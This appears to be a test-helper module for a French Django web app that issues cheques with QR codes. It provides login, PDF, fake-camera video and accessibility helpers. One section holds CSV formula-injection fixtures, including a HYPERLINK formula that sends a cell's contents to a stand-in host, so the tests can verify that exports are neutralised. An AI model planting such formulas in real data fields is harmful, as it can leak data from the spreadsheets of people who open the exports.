"""Small helpers shared by tests."""

import socket


def free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def log_in(page, username, password=None):
    page.goto("/connexion/")
    page.get_by_label("Adresse e-mail ou identifiant").fill(username)
    page.get_by_label("Mot de passe").fill(password or username)
    page.get_by_role("button", name="Se connecter").last.click()


# Cells an attacker types into a place's name, town or address, hoping that a funder's
# spreadsheet runs them (CSV formula injection).
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
HOSTILE_TOWN = "+SUM(1;2)"
HOSTILE_ADDRESS = "@SUM(A1:A9)"


def neutralised(value):
    """How every CSV export of the site writes a formula-like text: quoted, shown as text."""
    return "'" + value


def confirmation_path(message):
    """The path of the signup confirmation link in an e-mail (places.signup)."""
    import re
    from urllib.parse import urlsplit

    found = re.search(r"https?://\S+/structure/inscription/confirmer/\S+/", message.body)
    assert found, message.body
    return urlsplit(found.group(0)).path


# What production sets (DEBUG=0): the settings refuse to start without it.
PRODUCTION = {
    "DEBUG": "0", "SECRET_KEY": "k3y-" + "a1b2c3d4e5" * 6, "ALLOWED_HOSTS": "aptic.example",
    "SITE_URL": "https://aptic.example", "DJANGO_SETTINGS_MODULE": "aptic.settings",
    "CHEQUE_SIGNING_KEYS": "p1:" + "s1gn1ng-k3y-" * 5,
    "OPERATOR_IBAN": "FR7630006000011234567890189", "OPERATOR_BIC": "AGRIFRPP",
    "OPERATOR_SIRET": "73282932000074",
}


def production_environment(**extra):
    """This process's environment as production would set it, for a subprocess."""
    import os

    env = {k: v for k, v in os.environ.items()
           if k not in {"DEBUG", "DJANGO_ALLOW_ASYNC_UNSAFE"}}
    return {**env, **PRODUCTION, **extra}


def pdf_text(content):
    """The text of a PDF's pages on one line, every kind of space read as a blank."""
    import io

    from pypdf import PdfReader

    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)
    return " ".join(text.replace("\u00a0", " ").replace("\u202f", " ").split())


def signed_in(user):
    """A test client signed in as `user`."""
    from django.test import Client

    client = Client()
    client.force_login(user)
    return client


# --- a camera filming a printed cheque -----------------------------------------------------


def qr_video_from_pdf(pdf, video, *, page_index=1, size=(640, 480), frames=4):
    """Film the first QR code of page `page_index` of a printed PDF: the page is rendered
    (pypdfium2), cut around the QR code the way a phone frames it, and written as a
    YUV4MPEG2 video that Chromium's fake camera plays in a loop. Returns the QR's text."""
    import pypdfium2
    import zxingcpp
    from PIL import Image

    document = pypdfium2.PdfDocument(str(pdf))
    try:
        image = document[page_index].render(scale=3).to_pil().convert("RGB")
    finally:
        document.close()
    found = zxingcpp.read_barcodes(image, formats=zxingcpp.BarcodeFormat.QRCode)
    assert found, f"no QR code on page {page_index + 1} of {pdf}"
    barcode = min(found, key=lambda b: (b.position.top_left.y, b.position.top_left.x))
    corners = [barcode.position.top_left, barcode.position.top_right,
               barcode.position.bottom_right, barcode.position.bottom_left]
    left, right = min(p.x for p in corners), max(p.x for p in corners)
    top, bottom = min(p.y for p in corners), max(p.y for p in corners)
    side = max(right - left, bottom - top)
    margin = side // 2
    crop = image.crop((left - margin, top - margin, right + margin, bottom + margin))
    frame = Image.new("RGB", size, (235, 235, 228))  # a table under the paper
    scale = (size[1] * 0.8) / crop.height
    crop = crop.resize((round(crop.width * scale), round(crop.height * scale)), Image.LANCZOS)
    frame.paste(crop, ((size[0] - crop.width) // 2, (size[1] - crop.height) // 2))
    write_y4m(frame, video, frames=frames)
    return barcode.text


def write_y4m(image, path, *, frames=1):
    """One RGB image as a YUV4MPEG2 video (4:2:0, full-range JPEG colours, as Pillow's
    YCbCr): a header, then each frame's Y, Cb and Cr planes."""
    from PIL import Image

    width, height = image.size
    assert width % 2 == 0 and height % 2 == 0
    luma, blue, red = image.convert("YCbCr").split()
    half = (width // 2, height // 2)
    frame = (b"FRAME\n" + luma.tobytes() + blue.resize(half, Image.BILINEAR).tobytes()
             + red.resize(half, Image.BILINEAR).tobytes())
    header = f"YUV4MPEG2 W{width} H{height} F10:1 Ip A1:1 C420jpeg\n".encode()
    path.write_bytes(header + frame * frames)


# --- pages as people use them --------------------------------------------------------------


def scrolls_sideways(page):
    """How many CSS pixels the page is wider than the screen (0 when it fits)."""
    return page.evaluate(
        "Math.max(document.documentElement.scrollWidth, document.body.scrollWidth)"
        " - window.innerWidth")


def serious_accessibility_violations(page):
    """axe-core's violations of impact "serious" or "critical" on the page as it is now:
    [(rule, impact, help, [targets])]."""
    from axe_playwright_python.sync_playwright import Axe

    results = Axe().run(page)
    return [(v["id"], v["impact"], v["help"], [node["target"] for node in v["nodes"]])
            for v in results.response["violations"]
            if v["impact"] in ("serious", "critical")]


# What a person sends from the confirmation page of an action that cannot be taken back
# (aptic.web.confirm_first).
CONFIRMED = {"confirmed": "yes"}


def widest_elements(page, count=5):
    """The elements that reach furthest right (to find what makes a page too wide)."""
    return page.evaluate("""(count) => [...document.querySelectorAll("body *")]
        .map(e => [Math.round(e.getBoundingClientRect().right), e.tagName + "#" + e.id + "."
                   + [...e.classList].join(".")])
        .sort((a, b) => b[0] - a[0]).slice(0, count)""", count)
